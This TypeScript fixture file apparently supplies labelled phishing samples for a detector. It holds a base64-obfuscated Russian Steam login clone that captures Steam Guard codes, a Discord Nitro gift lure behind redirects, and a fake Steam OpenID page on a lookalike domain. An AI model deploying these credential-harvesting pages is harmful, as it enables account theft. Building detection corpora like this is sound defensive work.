import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';
import { STEAM_CSS, b64, charCodes, discordMark, doc, epicMark, rev, steamMark, xorB64 } from '../parts/yc-kit.js';

export const entries: Entry[] = [
(() => {
  const inner = `<div class="global_header">${steamMark(44)}<nav><a href="#">Магазин</a><a href="#">Сообщество</a><a href="#">О Steam</a><a href="#">Поддержка</a></nav><div></div></div>
<div class="page_content" style="max-width:740px"><h1 style="color:#fff;font-weight:300;font-size:32px">Вход</h1>
<div style="background:#181a21;padding:28px 32px;border-radius:4px">
<form id="lf" method="post" action="/login/dologin/">
<div class="newlogindialog_Label">Войдите, используя имя аккаунта</div><input class="newlogindialog_TextInput" name="username" autocomplete="username" required>
<div class="newlogindialog_Label secondary">Пароль</div><input class="newlogindialog_TextInput" type="password" name="password" autocomplete="current-password" required>
<div id="gd" style="display:none"><div class="newlogindialog_Label secondary">Код Steam Guard</div><input class="newlogindialog_TextInput" name="twofactorcode" maxlength="5" style="text-transform:uppercase"></div>
<label style="font-size:12px;color:#afafaf"><input type="checkbox" name="remember" checked> Запомнить меня</label><br><br>
<button class="btn_blue_steamui" type="submit">Войти</button></form>
<p style="font-size:12px;margin-top:16px"><a href="#" style="color:#afafaf">Помогите, я не могу войти в аккаунт</a></p></div>
<p style="color:#8f98a0;font-size:13px">Чтобы принять обмен и получить предметы, подтвердите вход. Обмены без мобильного аутентификатора задерживаются на 15 дней.</p></div>
<footer class="steam">© Valve Corporation. Все права защищены. Все торговые марки являются собственностью соответствующих владельцев в США и других странах.</footer>
<script>var st=0;document.getElementById('lf').addEventListener('submit',function(e){e.preventDefault();var f=new FormData(this);f.append('st',st);
fetch('/login/dologin/',{method:'POST',body:f}).then(function(r){return r.json()}).then(function(j){if(j.requires_twofactor&&st===0){st=1;document.getElementById('gd').style.display='block';return}location.href='https://steamcommunity.com/id/'+encodeURIComponent(f.get('username'))+'/tradeoffers/'})});</script>`;
  return {
    id: 'yc-steam-ru-guard-b64-write',
    label: 'phishing',
    kind: 'obfuscated-kit',
    url: 'https://steamcornmunity.ru/login/home/?goto=tradeoffer%2F4471920391',
    body: `<!DOCTYPE html><html lang="ru"><head><meta charset="utf-8"><title>Вход</title><meta name="viewport" content="width=device-width,initial-scale=1"><style>${STEAM_CSS}</style></head><body>
<noscript>Для работы сайта необходимо включить JavaScript.</noscript>
<script>var _0x5e=["${b64(inner).match(/.{1,120}/g)!.join('","')}"];document.write(decodeURIComponent(escape(window["a"+"to"+"b"](_0x5e.join("")))));</script>
</body></html>`,
    routes: { 'steamcornmunity.ru/login/dologin/': jsonRoute({ success: false, requires_twofactor: true, message: '' }) },
  } satisfies Entry;
})(),
{
  id: 'yc-discord-nitro-redirect-chain',
  label: 'phishing',
  kind: 'redirect-chain',
  url: 'https://gift-claim.link/xN8wQ2',
  routes: {
    'gift-claim.link/xN8wQ2': redirectRoute(302, 'https://trk.adsrotator.xyz/c?id=88120&sub=nitro&u=gift-claim'),
    'trk.adsrotator.xyz/c': redirectRoute(302, 'https://discordnitro-gift.com/claim/3m?code=PQ7f0cz2'),
    'discordnitro-gift.com/claim/3m': htmlRoute(doc({
      title: 'Discord | Claim Nitro',
      css: `*{box-sizing:border-box}body{margin:0;min-height:100vh;background:#404eed;font-family:"gg sans",Helvetica,Arial,sans-serif;color:#dbdee1;display:flex;align-items:center;justify-content:center}
.b{width:480px;background:#313338;border-radius:5px;padding:32px}.b h1{color:#f2f3f5;font-size:24px;text-align:center;margin:12px 0 4px}
label{font-size:12px;font-weight:700;text-transform:uppercase;color:#b5bac1;display:block;margin:18px 0 8px}input{width:100%;height:40px;background:#1e1f22;border:0;border-radius:3px;color:#dbdee1;padding:10px;font-size:16px}
button{width:100%;height:44px;background:#5865f2;color:#fff;border:0;border-radius:3px;font-size:16px;margin-top:20px;cursor:pointer}`,
      body: `<div class="b"><div style="text-align:center">${discordMark(30)}</div><h1>You've been gifted Nitro!</h1><p style="text-align:center;color:#b5bac1">Log in to add 3 months of Nitro to your account.</p>
<form action="/api/login" method="post"><input type="hidden" name="code" value="PQ7f0cz2"><label>Email or phone number</label><input name="email" required><label>Password</label><input type="password" name="password" required><button>Log In</button></form></div>`,
    })),
  },
},
{
  id: 'yc-skins-drop-meta-refresh-to-steam-kit',
  label: 'phishing',
  kind: 'redirect-chain',
  url: 'https://bit-skins-drop.web.app/',
  body: `<!doctype html><html><head><meta charset="utf-8"><title>Loading…</title><meta http-equiv="refresh" content="1;url=https://go.skin-drop.site/r?c=tw_1044"><style>body{background:#0b0e13;color:#889;font-family:Arial;display:flex;height:100vh;align-items:center;justify-content:center}</style></head><body><div>Redirecting to the drop page…</div></body></html>`,
  routes: {
    'go.skin-drop.site/r': htmlRoute(`<!doctype html><html><head><meta charset="utf-8"><title></title></head><body><script>var t="https://steamcommunity.com-giftdrop.store/openid/login?openid.mode=checkid_setup&openid.return_to="+encodeURIComponent("https://skin-drop.site/auth");setTimeout(function(){location.replace(t)},300);</script></body></html>`),
    'steamcommunity.com-giftdrop.store/openid/login': htmlRoute(doc({
      title: 'Steam Community :: Sign In',
      css: STEAM_CSS + `.box{max-width:700px;margin:30px auto;background:#1b2838;padding:26px 30px}.site{background:#16202d;padding:12px;font-size:13px;margin-bottom:18px}`,
      body: `<div class="global_header">${steamMark(44)}<nav><a href="#">Store</a><a href="#">Community</a><a href="#">About</a><a href="#">Support</a></nav><div></div></div>
<div class="box"><h2 style="color:#fff;font-weight:300;margin-top:0">Sign in through Steam</h2><div class="site">skin-drop.site would like you to sign in with your Steam account. Note that skin-drop.site is not affiliated with Steam or Valve.</div>
<form id="sf" method="post" action="/openid/dologin"><div class="newlogindialog_Label">Steam account name</div><input class="newlogindialog_TextInput" name="username" required><div class="newlogindialog_Label secondary">Password</div><input class="newlogindialog_TextInput" type="password" name="password" required><button class="btn_green_steamui" type="submit">Sign In</button></form>
<p style="font-size:12px;color:#8f98a0;margin-top:16px">By signing in you share your Steam profile, inventory and trade offer link with skin-drop.site.</p></div>`,
    })),
    'steamcommunity.com-giftdrop.store/openid/dologin': jsonRoute({ success: true, requires_twofactor: true }),
  },
},
];
